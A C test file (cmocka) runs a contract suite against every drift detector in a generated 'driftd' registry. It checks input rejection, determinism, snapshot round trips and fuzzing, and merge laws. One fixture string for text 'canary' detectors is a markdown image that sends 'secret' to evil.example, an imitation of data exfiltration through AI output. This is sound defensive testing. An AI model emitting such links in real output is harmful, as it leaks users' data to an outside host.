/* The detector contract suite, run against every entry of the generated registry: ABI and
 * parameter-table sanity, init/done idempotence, NaN/Inf and wrong types rejected without
 * touching the state, determinism, snapshot round trips, hostile snapshots rejected, merge
 * laws (for mergeable detectors), and no allocation in update/reference_add (malloc is
 * wrapped at link time, see tests/CMakeLists.txt). */
#include <errno.h>
#include <math.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "host.h"

/* ---- allocation counting (--wrap=malloc,calloc,realloc) ---- */
void *__real_malloc(size_t n);
void *__real_calloc(size_t n, size_t m);
void *__real_realloc(void *p, size_t n);
void *__wrap_malloc(size_t n);
void *__wrap_calloc(size_t n, size_t m);
void *__wrap_realloc(void *p, size_t n);
static int counting;
static unsigned long allocations;
void *__wrap_malloc(size_t n)
{
	allocations += counting;
	return __real_malloc(n);
}
void *__wrap_calloc(size_t n, size_t m)
{
	allocations += counting;
	return __real_calloc(n, m);
}
void *__wrap_realloc(void *p, size_t n)
{
	allocations += counting;
	return __real_realloc(p, n);
}

#define REF 64
#define WIN 32

static struct driftd_shape shape_for(const struct driftd_detector_ops *ops)
{
	struct driftd_shape s = {.seed = 7};
	if (driftd_kind_uses_reference(ops->kind)) {
		s.reference_size = REF;
		s.window_size = WIN;
	}
	return s;
}

static struct dd_instance *fresh(const struct driftd_detector_ops *ops)
{
	struct driftd_shape s = shape_for(ops);
	struct dd_instance *in = NULL;
	int rc = dd_instance_new(ops, NULL, &s, &in);
	if (rc < 0)
		fail_msg("%s: init failed: %d", ops->name, rc);
	return in;
}

/* Deterministic uniform [0, 1) numbers. */
static double unit_at(unsigned i)
{
	uint64_t z = (i + 1) * 0x9e3779b97f4a7c15ull;
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
	z ^= z >> 31;
	return (double)(z >> 11) * 0x1.0p-53;
}

/* Deterministic test stream: a level shift halfway, so detectors have something to find. */
static double value_at(unsigned i)
{
	return unit_at(i) + (i > 200 ? 3.0 : 0.0);
}

/* Detectors that take vectors but not numbers get VDIM-dimensional vectors from the same
 * stream (the shift shows in two of the elements); buf holds the elements. */
#define VDIM 3
static bool wants_vectors(const struct driftd_detector_ops *ops)
{
	return !(ops->accepts & DRIFTD_ACCEPTS(DRIFTD_VALUE_NUMBER)) &&
	       (ops->accepts & DRIFTD_ACCEPTS(DRIFTD_VALUE_VECTOR));
}

/* Detectors that take booleans watch 0/1 streams (a model's errors, say) and may reject other
 * numbers, so they get 0/1 values whose rate of ones jumps at the same point instead. */
static struct driftd_value value_for(const struct driftd_detector_ops *ops, unsigned i,
                                     double buf[VDIM])
{
	double u = unit_at(i);
	if ((ops->accepts & DRIFTD_ACCEPTS(DRIFTD_VALUE_STRING)) && !wants_vectors(ops) &&
	    !(ops->accepts & DRIFTD_ACCEPTS(DRIFTD_VALUE_NUMBER))) {
		/* text detectors (canary): a markdown image to an unknown host now and then
		 * after the change point */
		static const char plain[] = "The answer is 42.";
		static const char leak[] = "Done. ![x](https://evil.example/p.png?d=secret)";
		const char *t = i > 200 && u < 0.2 ? leak : plain;
		return (struct driftd_value){
		    .type = DRIFTD_VALUE_STRING, .str = t, .len = strlen(t)};
	}
	if (ops->accepts & DRIFTD_ACCEPTS(DRIFTD_VALUE_BOOL))
		return (struct driftd_value){.type = DRIFTD_VALUE_BOOL,
		                             .num = u < (i > 200 ? 0.6 : 0.1) ? 1 : 0};
	if (!wants_vectors(ops))
		return (struct driftd_value){.type = DRIFTD_VALUE_NUMBER, .num = value_at(i)};
	buf[0] = value_at(i);
	buf[1] = unit_at(i + 100003) - 0.5 * value_at(i);
	buf[2] = unit_at(i + 200003);
	return (struct driftd_value){.type = DRIFTD_VALUE_VECTOR, .vec = buf, .dim = VDIM};
}

/* The event around value v for detectors with update_event: five steady clients, then one
 * flooding client and a changed model hash, the security detectors' change point. */
static struct driftd_event event_for(unsigned i, const struct driftd_value *v)
{
	static const char *const clients[] = {"c0", "c1", "c2", "c3", "c4", "flood"};
	static const char sha_a[] =
	    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
	static const char sha_b[] =
	    "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
	const char *cl = clients[i > 200 && unit_at(i + 7) < 0.5 ? 5 : i % 5];
	const char *sha = i > 250 ? sha_b : sha_a;
	return (struct driftd_event){
	    .value = v,
	    .model_id = {"m", 1},
	    .model_version = {"1", 1},
	    .model_sha256 = {sha, 64},
	    .client_id = {cl, strlen(cl)},
	    .request_id = {"r", 1},
	    .ts_ms = 1000 * (int64_t)i,
	};
}

/* Feed n values through the host protocol (reference first where the kind needs one);
 * verdict outcomes are folded into *sig so two runs can be compared. */
static void feed(struct dd_instance *in, unsigned from, unsigned n, unsigned *ref_n,
                 unsigned *win_n, double *sig)
{
	const struct driftd_detector_ops *ops = in->ops;
	for (unsigned i = from; i < from + n; i++) {
		double buf[VDIM];
		struct driftd_value v = value_for(ops, i, buf);
		if (driftd_kind_uses_reference(ops->kind) && *ref_n < REF) {
			counting = 1;
			int rc = ops->reference_add(&in->ctx, &v);
			counting = 0;
			assert_int_equal(rc, 0);
			if (++*ref_n == REF && ops->reference_done)
				assert_int_equal(ops->reference_done(&in->ctx), 0);
			continue;
		}
		struct driftd_event ev = event_for(i, &v);
		counting = 1;
		int rc = ops->update_event ? ops->update_event(&in->ctx, &ev)
		                           : ops->update(&in->ctx, &v);
		counting = 0;
		assert_int_equal(rc, 0);
		if (driftd_kind_uses_reference(ops->kind) && ++*win_n < WIN)
			continue;
		struct driftd_verdict out = {.p_value = NAN};
		assert_int_equal(ops->evaluate(&in->ctx, &out), 0);
		/* evidence comes with breaches only, and is well formed */
		if (out.evidence) {
			assert_true(out.drift);
			assert_true(out.evidence->n <= DRIFTD_EVIDENCE_MAX);
			for (size_t k = 0; k < out.evidence->n; k++) {
				assert_non_null(out.evidence->f[k].key);
				if (out.evidence->f[k].type == DRIFTD_EVIDENCE_STRING)
					assert_non_null(out.evidence->f[k].str);
			}
			*sig += (double)out.evidence->n;
		}
		*sig = *sig * 31 + out.score + (out.drift ? 1e6 : 0) + (out.warning ? 1e3 : 0) +
		       (isnan(out.p_value) ? 0 : out.p_value);
		if (driftd_kind_uses_reference(ops->kind)) {
			*win_n = 0;
			if (ops->window_reset)
				ops->window_reset(&in->ctx);
		}
	}
}

static void snap(const struct dd_instance *in, struct driftd_buf *b)
{
	*b = (struct driftd_buf){0};
	assert_int_equal(in->ops->snapshot(&in->ctx, b), 0);
	assert_int_equal(b->err, 0);
}

static bool same_snapshot(const struct dd_instance *a, const struct dd_instance *b)
{
	struct driftd_buf x, y;
	snap(a, &x);
	snap(b, &y);
	bool eq = x.len == y.len && memcmp(x.data, y.data, x.len) == 0;
	driftd_buf_free(&x);
	driftd_buf_free(&y);
	return eq;
}

static void test_table(void **unused)
{
	assert_true(driftd_n_detectors >= 3);
	for (size_t i = 0; i < driftd_n_detectors; i++) {
		const struct driftd_detector_ops *ops = driftd_detectors[i];
		assert_int_equal(ops->abi_version, DRIFTD_DETECTOR_ABI);
		assert_true(ops->struct_size >= sizeof(struct driftd_detector_ops));
		assert_non_null(ops->name);
		assert_true(strlen(ops->summary) > 10);
		assert_ptr_equal(driftd_detector_find(ops->name), ops);
		assert_non_null(ops->init);
		assert_non_null(ops->update);
		assert_non_null(ops->evaluate);
		assert_non_null(ops->snapshot);
		assert_non_null(ops->restore);
		assert_non_null(ops->done);
		assert_true(ops->accepts != 0);
		/* security detectors say which threat and clauses their alerts serve */
		if (ops->kind == DRIFTD_KIND_SECURITY) {
			assert_non_null(ops->tags);
			bool threat = false, etsi = false;
			for (size_t k = 0; ops->tags[k]; k++) {
				threat |= strncmp(ops->tags[k], "threat:", 7) == 0;
				etsi |= strncmp(ops->tags[k], "etsi:", 5) == 0;
			}
			assert_true(threat && etsi);
			assert_false(driftd_kind_uses_reference(ops->kind));
		}
		if (driftd_kind_uses_reference(ops->kind))
			assert_non_null(ops->reference_add);
		assert_true(!(ops->caps & DRIFTD_CAP_MERGE) || ops->merge);
		for (size_t k = 0; k < ops->n_params; k++) {
			const struct driftd_param *p = &ops->params[k];
			assert_true(strlen(p->description) > 5);
			assert_true(p->offset < ops->config_size);
			for (size_t j = 0; j < k; j++)
				assert_string_not_equal(ops->params[j].name, p->name);
			if (p->type == DRIFTD_PARAM_ENUM) {
				int n = 0;
				while (p->choices[n])
					n++;
				assert_true(p->def >= 0 && p->def < n);
			} else if (p->type >= DRIFTD_PARAM_STRING) {
				assert_true(p->type != DRIFTD_PARAM_LIST || p->def_str == NULL);
			} else if (p->type != DRIFTD_PARAM_BOOL) {
				assert_true(p->def >= p->min && p->def <= p->max);
				assert_false(p->min_open && p->def == p->min);
				assert_false(p->max_open && p->def == p->max);
			}
		}
		/* Defaults pass the detector's own cross-checks. */
		if (ops->check_config) {
			void *cfg = calloc(1, ops->config_size);
			dd_params_defaults(ops, cfg);
			const char *why = NULL;
			assert_int_equal(ops->check_config(cfg, &why), 0);
			free(cfg);
		}
	}
}

static void test_done_idempotent(void **unused)
{
	for (size_t i = 0; i < driftd_n_detectors; i++) {
		struct dd_instance *in = fresh(driftd_detectors[i]);
		unsigned r = 0, w = 0;
		double sig = 0;
		feed(in, 0, REF + WIN + 3, &r, &w, &sig);
		in->ops->done(&in->ctx);
		in->ops->done(&in->ctx);
		dd_instance_free(in); /* calls done a third time */
	}
}

/* reference_add in phase 0 where the detector has one, update otherwise */
static int push(struct dd_instance *in, int phase, const struct driftd_value *v)
{
	if (phase == 0 && in->ops->reference_add)
		return in->ops->reference_add(&in->ctx, v);
	return in->ops->update(&in->ctx, v);
}

static void test_bad_values_rejected(void **unused)
{
	const double bad[] = {NAN, INFINITY, -INFINITY};
	for (size_t i = 0; i < driftd_n_detectors; i++) {
		const struct driftd_detector_ops *ops = driftd_detectors[i];
		struct dd_instance *in = fresh(ops), *ref = fresh(ops);
		unsigned r = 0, w = 0, r2 = 0, w2 = 0;
		double s1 = 0, s2 = 0;
		for (int phase = 0; phase < 2; phase++) {
			for (size_t k = 0; k < 3; k++) {
				struct driftd_value v = {.type = DRIFTD_VALUE_NUMBER,
				                         .num = bad[k]};
				int rc = phase == 0 && ops->reference_add
				             ? ops->reference_add(&in->ctx, &v)
				             : ops->update(&in->ctx, &v);
				if (rc != -EDOM)
					fail_msg("%s: non-finite value gave %d, want -EDOM",
					         ops->name, rc);
			}
			if (wants_vectors(ops)) {
				/* non-finite elements; after the first phase the dimension is fixed
				 * at VDIM, so other dimensions too; and plain numbers */
				double e[VDIM + 1] = {0.5, 0.25, 0.125, 1};
				for (size_t k = 0; k < 3 * VDIM; k++) {
					double x[VDIM] = {0.5, 0.25, 0.125};
					x[k % VDIM] = bad[k / VDIM];
					struct driftd_value v = {
					    .type = DRIFTD_VALUE_VECTOR, .vec = x, .dim = VDIM};
					assert_int_equal(push(in, phase, &v), -EDOM);
				}
				struct driftd_value odd[] = {
				    {.type = DRIFTD_VALUE_VECTOR, .vec = e, .dim = 0},
				    {.type = DRIFTD_VALUE_VECTOR, .vec = e, .dim = VDIM + 1},
				    {.type = DRIFTD_VALUE_NUMBER, .num = 1.0},
				};
				for (size_t k = 0; k < 3; k++) {
					if (phase == 0 && k == 1)
						continue; /* no dimension fixed yet */
					assert_int_equal(push(in, phase, &odd[k]), -EDOM);
				}
			}
			if (!(ops->accepts & DRIFTD_ACCEPTS(DRIFTD_VALUE_STRING))) {
				struct driftd_value s = {
				    .type = DRIFTD_VALUE_STRING, .str = "x", .len = 1};
				int rc = phase == 0 && ops->reference_add
				             ? ops->reference_add(&in->ctx, &s)
				             : ops->update(&in->ctx, &s);
				assert_int_equal(rc, -EDOM);
			}
			assert_true(same_snapshot(in, ref));
			/* move both past the reference and into the window phase */
			feed(in, 0, REF + 5, &r, &w, &s1);
			feed(ref, 0, REF + 5, &r2, &w2, &s2);
		}
		dd_instance_free(in);
		dd_instance_free(ref);
	}
}

static void test_determinism_and_no_alloc(void **unused)
{
	for (size_t i = 0; i < driftd_n_detectors; i++) {
		const struct driftd_detector_ops *ops = driftd_detectors[i];
		struct dd_instance *a = fresh(ops), *b = fresh(ops);
		unsigned ra = 0, wa = 0, rb = 0, wb = 0;
		double sa = 0, sb = 0;
		allocations = 0;
		feed(a, 0, 600, &ra, &wa, &sa);
		if (allocations)
			fail_msg("%s: %lu allocations in update/reference_add", ops->name,
			         allocations);
		feed(b, 0, 600, &rb, &wb, &sb);
		assert_true(sa == sb);
		assert_true(same_snapshot(a, b));
		dd_instance_free(a);
		dd_instance_free(b);
	}
}

static void test_snapshot_round_trip(void **unused)
{
	for (size_t i = 0; i < driftd_n_detectors; i++) {
		const struct driftd_detector_ops *ops = driftd_detectors[i];
		/* at several points: mid-reference, mid-window, after drift */
		const unsigned cuts[] = {REF / 2, REF + WIN / 2, 300};
		for (size_t c = 0; c < 3; c++) {
			struct dd_instance *a = fresh(ops), *b = fresh(ops);
			unsigned ra = 0, wa = 0;
			double sa = 0, sb = 0;
			feed(a, 0, cuts[c], &ra, &wa, &sa);
			struct driftd_buf buf;
			snap(a, &buf);
			int rc = ops->restore(&b->ctx, ops->snapshot_version, buf.data, buf.len);
			if (rc < 0)
				fail_msg("%s: restore of own snapshot failed: %d", ops->name, rc);
			driftd_buf_free(&buf);
			assert_true(same_snapshot(a, b));
			unsigned rb = ra, wb = wa;
			sa = sb = 0;
			feed(a, cuts[c], 400, &ra, &wa, &sa);
			feed(b, cuts[c], 400, &rb, &wb, &sb);
			if (sa != sb)
				fail_msg("%s: restored instance diverged (cut %u)", ops->name,
				         cuts[c]);
			dd_instance_free(a);
			dd_instance_free(b);
		}
	}
}

static void test_hostile_snapshots(void **unused)
{
	for (size_t i = 0; i < driftd_n_detectors; i++) {
		const struct driftd_detector_ops *ops = driftd_detectors[i];
		struct dd_instance *a = fresh(ops);
		unsigned ra = 0, wa = 0;
		double s = 0;
		feed(a, 0, REF + WIN + 10, &ra, &wa, &s);
		struct driftd_buf good;
		snap(a, &good);
		/* every truncation */
		for (size_t cut = 0; cut < good.len; cut++) {
			struct dd_instance *b = fresh(ops);
			if (ops->restore(&b->ctx, ops->snapshot_version, good.data, cut) >= 0)
				fail_msg("%s: truncated snapshot (%zu of %zu bytes) accepted",
				         ops->name, cut, good.len);
			dd_instance_free(b);
		}
		/* trailing bytes, unknown version */
		struct dd_instance *b = fresh(ops);
		uint8_t *longer = malloc(good.len + 1);
		memcpy(longer, good.data, good.len);
		longer[good.len] = 0;
		assert_true(ops->restore(&b->ctx, ops->snapshot_version, longer, good.len + 1) < 0);
		assert_true(
		    ops->restore(&b->ctx, ops->snapshot_version + 100, good.data, good.len) < 0);
		free(longer);
		dd_instance_free(b);
		/* bit flips and random bytes: must not crash; whatever is accepted must be a
		 * usable state (ASan/UBSan watch the feeding afterwards) */
		uint64_t z = 12345;
		for (int t = 0; t < 300; t++) {
			uint8_t *m = malloc(good.len);
			memcpy(m, good.data, good.len);
			z = z * 6364136223846793005ull + 1442695040888963407ull;
			if (t < 150)
				m[(z >> 33) % good.len] ^= (uint8_t)(1u << ((z >> 20) & 7));
			else
				for (size_t k = 0; k < good.len; k++)
					m[k] = (uint8_t)((z >> (k % 56)) ^ k);
			struct dd_instance *c = fresh(ops);
			int rc = ops->restore(&c->ctx, ops->snapshot_version, m, good.len);
			/* A rejected restore leaves the state as after init, which must take a
			 * whole reference and windows again; an accepted one (possible for
			 * streaming state whose every value is plausible) must go on working.
			 * Window kinds are fed only when rejected: the host, not the detector,
			 * knows their phase. */
			unsigned rn = 0, wn = 0;
			double sc = 0;
			if (rc < 0 || !driftd_kind_uses_reference(ops->kind))
				feed(c, 0, REF + WIN, &rn, &wn, &sc);
			free(m);
			dd_instance_free(c);
		}
		driftd_buf_free(&good);
		dd_instance_free(a);
	}
}

static void test_merge_laws(void **unused)
{
	for (size_t i = 0; i < driftd_n_detectors; i++) {
		const struct driftd_detector_ops *ops = driftd_detectors[i];
		if (!(ops->caps & DRIFTD_CAP_MERGE))
			continue;
		/* three instances with the same reference and different window contents */
		struct dd_instance *x[3], *e = fresh(ops);
		for (int k = 0; k < 3; k++) {
			x[k] = fresh(ops);
			unsigned r = 0, w = 0;
			double s = 0;
			feed(x[k], 0, REF, &r, &w, &s);
			feed(x[k], 300 + 10 * (unsigned)k, 7 + (unsigned)k, &r, &w, &s);
		}
		unsigned r = 0, w = 0;
		double s = 0;
		feed(e, 0, REF, &r, &w, &s);
		/* identity: x0 + fresh == x0 */
		struct dd_instance *i0 = fresh(ops);
		r = w = 0;
		feed(i0, 0, REF, &r, &w, &s);
		feed(i0, 300, 7, &r, &w, &s);
		assert_int_equal(ops->merge(&i0->ctx, &e->ctx), 0);
		assert_true(same_snapshot(i0, x[0]));
		/* commutative: x0+x1 == x1+x0; associative: (x0+x1)+x2 == x0+(x1+x2) */
		struct dd_instance *a = fresh(ops), *b = fresh(ops), *c = fresh(ops);
		struct driftd_buf t;
		snap(x[0], &t);
		assert_int_equal(ops->restore(&a->ctx, ops->snapshot_version, t.data, t.len), 0);
		driftd_buf_free(&t);
		snap(x[1], &t);
		assert_int_equal(ops->restore(&b->ctx, ops->snapshot_version, t.data, t.len), 0);
		driftd_buf_free(&t);
		assert_int_equal(ops->merge(&a->ctx, &x[1]->ctx), 0);
		assert_int_equal(ops->merge(&b->ctx, &x[0]->ctx), 0);
		assert_true(same_snapshot(a, b));
		assert_int_equal(ops->merge(&a->ctx, &x[2]->ctx), 0); /* (x0+x1)+x2 */
		snap(x[1], &t);
		assert_int_equal(ops->restore(&c->ctx, ops->snapshot_version, t.data, t.len), 0);
		driftd_buf_free(&t);
		assert_int_equal(ops->merge(&c->ctx, &x[2]->ctx), 0); /* x1+x2 */
		struct dd_instance *d = fresh(ops);
		snap(x[0], &t);
		assert_int_equal(ops->restore(&d->ctx, ops->snapshot_version, t.data, t.len), 0);
		driftd_buf_free(&t);
		assert_int_equal(ops->merge(&d->ctx, &c->ctx), 0); /* x0+(x1+x2) */
		assert_true(same_snapshot(a, d));
		for (int k = 0; k < 3; k++)
			dd_instance_free(x[k]);
		dd_instance_free(e);
		dd_instance_free(i0);
		dd_instance_free(a);
		dd_instance_free(b);
		dd_instance_free(c);
		dd_instance_free(d);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_table),
	    cmocka_unit_test(test_done_idempotent),
	    cmocka_unit_test(test_bad_values_rejected),
	    cmocka_unit_test(test_determinism_and_no_alloc),
	    cmocka_unit_test(test_snapshot_round_trip),
	    cmocka_unit_test(test_hostile_snapshots),
	    cmocka_unit_test(test_merge_laws),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
